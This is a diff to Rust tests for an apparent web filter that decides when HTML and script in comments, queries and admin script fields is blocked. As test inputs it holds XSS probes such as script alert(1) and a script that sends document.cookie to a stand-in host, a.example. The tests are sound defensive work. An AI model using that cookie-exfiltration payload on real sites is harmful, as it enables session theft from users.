@@ -531,10 +531,12 @@ fn text_around_markup() {
             }
         }
     }
-    // Shown as code where the site made the field for text, and nowhere else.
-    let fence = "Use this:\n\n```html\n<script src=\"https://cdn.example/x.js\"></script>\n```\n";
+    // Shown as code where the site made the field for text, and nowhere else: what runs nothing.
+    let fence = "Use this:\n\n```html\n<iframe src=\"//frames.example/\"></iframe>\n```\n";
     assert!(!blocked(Place::Form, "comment", fence) && blocked(Place::Query, "q", fence));
-    assert!(blocked(Place::Form, "comment", "```\n<script>alert(1)</script>"));
+    for text in ["```\n<script>alert(1)</script>\n```", "`<script src=//cdn.example/x.js></script>`"] {
+        assert!(blocked(Place::Form, "comment", text), "{text}");
+    }
 }
 
 #[test]
@@ -544,13 +546,11 @@ fn fields_for_a_sites_own_scripts() {
     };
     let snippet = "<script async src=\"https://tags.example/gtag/js?id=G-1\"></script><script>window.dataLayer=window.dataLayer||[];\
         function gtag(){dataLayer.push(arguments)}gtag('js',new Date());</script>";
-    for name in ["head_code", "custom_js", "settings[tracking_snippet]", "footerHtml", "newcontent"] {
+    for name in ["head_code", "custom_js", "settings.tracking_snippet", "footerHtml", "newcontent"] {
         assert!(!at(name, snippet), "{name}");
         assert!(at(name, "<script>fetch('//a.example/?'+document.cookie)</script>"), "{name}");
     }
     assert!(at("q", snippet) && at("name", snippet));
-    // What was escaped in an element for code is shown.
-    assert!(!at("content", "<p>See</p><pre><code>&lt;script>alert(1)&lt;/script></code></pre>"));
     assert!(at("content", "<pre><code><script>alert(1)</script></code></pre>"));
 }
 
